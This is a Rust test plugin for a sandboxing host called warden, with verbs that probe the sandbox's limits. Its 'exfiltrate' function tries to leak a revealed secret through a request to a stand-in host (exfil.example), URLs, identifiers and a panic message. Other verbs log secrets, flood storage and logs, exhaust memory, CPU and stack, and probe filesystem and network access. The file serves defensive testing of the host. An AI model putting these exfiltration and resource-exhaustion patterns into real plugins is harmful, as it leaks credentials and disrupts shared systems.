//! A plugin for warden's tests. The flow var `action` (`verb` or `verb:argument`)
//! picks what `on_request` and `after_request` do (`after_action`, when set, overrides it
//! for `after_request`); `on_escalate` always denies (which the host must refuse). See the
//! match in [`act`] for the verbs. Verbs that call the host turn a refused call into a
//! denial, or, with the flow var `errors = "fail"`, into an error (the hook fails closed).

use std::hint::black_box;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use warden_sdk::integrations;
use warden_sdk::log;
use warden_sdk::prelude::*;

struct Probe;

#[warden_sdk::plugin]
impl Plugin for Probe {
    fn on_request(event: &Event) -> Result<Decision> {
        act(event)
    }

    fn after_request(event: &Event) -> Result<Decision> {
        match event.var("after_action") {
            Some(action) => act_on(event, action),
            None => act(event),
        }
    }

    fn on_escalate(_event: &Event) -> Result<Decision> {
        Ok(Decision::deny("probe denies escalation"))
    }
}

fn act(event: &Event) -> Result<Decision> {
    act_on(event, event.var_or("action", "continue"))
}

/// What a verb does with a host call that failed: deny with the error as the reason, or
/// (with `errors = "fail"`) return the error.
fn refused(event: &Event, error: impl std::fmt::Display) -> Result<Decision> {
    if event.var("errors") == Some("fail") {
        bail!("{error}")
    }
    Ok(Decision::deny(error.to_string()))
}

fn act_on(event: &Event, action: &str) -> Result<Decision> {
    let (verb, arg) = action.split_once(':').unwrap_or((action, ""));
    match verb {
        "continue" => Ok(Decision::Continue),
        "approve" => Ok(Decision::approve(arg)),
        "deny" => Ok(Decision::deny(arg)),
        "ignore" => Ok(Decision::ignore(arg)),
        "integration" => Ok(describe_integration(arg)),
        "aliases" => {
            let mut aliases = integrations::aliases();
            aliases.sort();
            Ok(Decision::approve(aliases.join(",")))
        }
        "secret-open" => match open_secret(arg) {
            Ok(secret) => Ok(Decision::approve(format!(
                "opened {} at {}",
                secret.id(),
                secret.path()
            ))),
            Err(error) => refused(event, error),
        },
        "secret-reveal" => match reveal(arg) {
            Ok(value) => Ok(Decision::approve(value)),
            Err(error) => refused(event, error),
        },
        "log-secret" => match reveal(arg) {
            Ok(value) => {
                log::info(&format!("the key is {value}"));
                eprintln!("the key is {value}");
                Ok(Decision::Continue)
            }
            Err(error) => refused(event, error),
        },
        "http" => to_decision(event, plain_http(arg)),
        "http-sealed" => to_decision(event, sealed_http(arg)),
        // Retries a call until it succeeds, as a careless plugin might: only the hook's
        // deadline ends it when the call keeps failing.
        "http-retry" => loop {
            if let Ok(reason) = plain_http(arg) {
                return Ok(Decision::approve(reason));
            }
        },
        "lookup" => {
            let (service, service_id) = two(arg)?;
            match event.requester.identity(service, service_id) {
                Ok(Some(identity)) => Ok(Decision::approve(identity.user_id)),
                Ok(None) => Ok(Decision::approve("none")),
                Err(error) => refused(event, error),
            }
        }
        "persist" => {
            let [service, service_id, user_id] = words(arg)?;
            let email = &event.requester.email;
            match persist_user_identity(email, service, service_id, user_id) {
                Ok(identity) => Ok(Decision::approve(format!("persisted {}", identity.user_id))),
                Err(error) => refused(event, error),
            }
        }
        // `<count> <service> <service_id>`: one identity each for `count` made-up users.
        "persist-flood" => {
            let [count, service, service_id] = words(arg)?;
            for i in 0..count.parse::<u32>()? {
                let email = format!("user{i}@flood.example");
                if let Err(error) = persist_user_identity(&email, service, service_id, "u") {
                    return refused(event, format!("persist #{i}: {error}"));
                }
            }
            Ok(Decision::approve(format!("persisted {count}")))
        }
        // `<bytes> <service> <service_id>`: the requester's identity with a huge user id.
        "persist-huge" => {
            let [bytes, service, service_id] = words(arg)?;
            let user_id = "u".repeat(bytes.parse()?);
            let email = &event.requester.email;
            match persist_user_identity(email, service, service_id, &user_id) {
                Ok(_) => Ok(Decision::approve("persisted")),
                Err(error) => refused(event, error),
            }
        }
        // Tries to smuggle the alias's revealed secret out through everything the host
        // records: a host name, a URL, a secret id, an integration alias, a service id, a
        // panic message.
        "exfiltrate" => exfiltrate(arg),
        "cache-set" => {
            let [key, value, ttl] = words(arg)?;
            let ttl = Duration::from_secs(ttl.parse()?);
            Ok(match cache::set(key, value.as_bytes(), ttl) {
                Ok(()) => Decision::approve("set"),
                Err(error) => Decision::deny(error.to_string()),
            })
        }
        "cache-get" => Ok(match cache::get(arg) {
            Some(value) => Decision::approve(String::from_utf8_lossy(&value)),
            None => Decision::approve("miss"),
        }),
        "loop" => spin(),
        "memory-bomb" => hoard(),
        // One allocation far over any memory limit, in a single step.
        "huge-alloc" => {
            let mut buffer: Vec<u8> = Vec::with_capacity(arg.parse()?);
            buffer.push(1);
            Ok(Decision::approve(black_box(buffer).len().to_string()))
        }
        "stack-overflow" => Ok(Decision::approve(recurse(0).to_string())),
        "panic" => panic!("probe panicked"),
        "error" => bail!("probe failed on purpose"),
        "stdout" => {
            print!("{}", "x".repeat(arg.parse()?));
            Ok(Decision::Continue)
        }
        "log-flood" => {
            let n: u64 = arg.parse()?;
            for i in 0..n {
                log::info(&format!("flood {i}"));
            }
            Ok(Decision::Continue)
        }
        // `<alias> <reason_pad> <stdout_pad>`: the revealed value after padding, in the
        // reason and on stdout, so the host's bounds cut through the middle of it.
        "cut-secret" => {
            let [alias, reason_pad, stdout_pad] = words(arg)?;
            let value = reveal(alias)?;
            // One write, so stdout's buffer does not hold the value back.
            let out = format!("{}{value}", "x".repeat(stdout_pad.parse()?));
            print!("{out}");
            Ok(Decision::approve(format!(
                "{}{value}",
                "r".repeat(reason_pad.parse()?)
            )))
        }
        "big-reason" => Ok(Decision::approve("r".repeat(arg.parse()?))),
        "counter" => {
            // Survives between events only if the host reuses instances; it must not.
            static EVENTS_SEEN: AtomicU32 = AtomicU32::new(0);
            Ok(Decision::approve(
                (EVENTS_SEEN.fetch_add(1, Ordering::SeqCst) + 1).to_string(),
            ))
        }
        "wasi" => Ok(Decision::approve(probe_wasi(arg))),
        // Scheduling (one plugin must not freeze the host): a fixed amount of CPU work,
        // `<iterations>` of a loop, then an approval. Unlike `loop` it ends, but only if the
        // host gives it CPU.
        "burn" => {
            let mut n = 0u64;
            for _ in 0..arg.parse::<u64>()? {
                n = black_box(n.wrapping_add(1));
            }
            Ok(Decision::approve(format!("burned {n}")))
        }
        other => bail!("probe: unknown action `{other}`"),
    }
}

fn to_decision(event: &Event, result: Result<String>) -> Result<Decision> {
    match result {
        Ok(reason) => Ok(Decision::approve(reason)),
        Err(error) => refused(event, error),
    }
}

fn exfiltrate(alias: &str) -> Result<Decision> {
    let value = reveal(alias)?;
    let _ = http::get(format!("http://{value}.exfil.example/")).send();
    let _ = http::get(format!("not a url {value}")).send();
    let _ = http::get(format!("http://127.0.0.1:9/{value}?k={value}")).send();
    let _ = open_secret(&value);
    let _ = integrations::get(&value);
    let _ = warden_sdk::identities::lookup("a@example.com", "custom", &value);
    panic!("giving up with {value}")
}

fn describe_integration(alias: &str) -> Decision {
    let Some(integration) = integrations::get(alias) else {
        return Decision::deny("none");
    };
    let mut settings: Vec<String> = integration
        .settings
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    settings.sort();
    Decision::approve(format!(
        "{} {} {} secrets={} settings={}",
        integration.name,
        integration.type_,
        integration.external_id,
        integration.secrets.len(),
        settings.join(",")
    ))
}

fn reveal(alias: &str) -> Result<String> {
    let integration = integration(alias)?;
    Ok(integration.secret(0)?.retrieve_value()?)
}

/// `<METHOD> <url>`, no headers.
fn plain_http(arg: &str) -> Result<String> {
    let (method, url) = two(arg)?;
    let response = http::request(method.parse()?, url).send()?;
    Ok(format!(
        "status={} body={}",
        response.status(),
        first_500(&response)
    ))
}

/// `<alias> <url>`: GET with the alias's first secret sealed in `X-Api-Key`.
fn sealed_http(arg: &str) -> Result<String> {
    let (alias, url) = two(arg)?;
    let integration = integration(alias)?;
    let response = http::get(url)
        .header_secret("X-Api-Key", integration.secret(0)?)
        .header("X-Api-Id", &integration.external_id)
        .send()?;
    let headers: Vec<String> = response
        .headers
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    Ok(format!(
        "status={} body={} headers={}",
        response.status(),
        first_500(&response),
        headers.join(";")
    ))
}

fn first_500(response: &Response) -> String {
    response.text().chars().take(500).collect()
}

fn two(arg: &str) -> Result<(&str, &str)> {
    let [a, b] = words(arg)?;
    Ok((a, b))
}

fn words<const N: usize>(arg: &str) -> Result<[&str; N]> {
    let words: Vec<&str> = arg.split_whitespace().collect();
    words
        .try_into()
        .map_err(|_| Error::msg(format!("probe: expected {N} words in `{arg}`")))
}

fn spin() -> ! {
    let mut n = 0u64;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn hoard() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        for byte in chunk.iter_mut().step_by(4096) {
            *byte = 1;
        }
        hoard.push(black_box(chunk));
        black_box(&hoard);
    }
}

/// Recursion with work after the call (so it is no tail call) and a frame the
/// optimiser can't see through.
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 32]);
    if black_box(true) {
        recurse(frame[0] + 1).wrapping_add(frame[31])
    } else {
        frame[1]
    }
}

/// What WASI grants: `<addr>` is a TCP address to try to connect to.
fn probe_wasi(addr: &str) -> String {
    let env = std::env::vars().count();
    let args = std::env::args().count();
    let root = match std::fs::read_dir("/") {
        Ok(_) => "readable".to_string(),
        Err(e) => format!("refused ({})", e.kind()),
    };
    let tcp = match std::net::TcpStream::connect(addr) {
        Ok(_) => "connected".to_string(),
        Err(e) => format!("refused ({})", e.kind()),
    };
    let dns = match std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80)) {
        Ok(_) => "resolved".to_string(),
        Err(e) => format!("refused ({})", e.kind()),
    };
    format!("env={env} args={args} fs={root} tcp={tcp} dns={dns}")
}
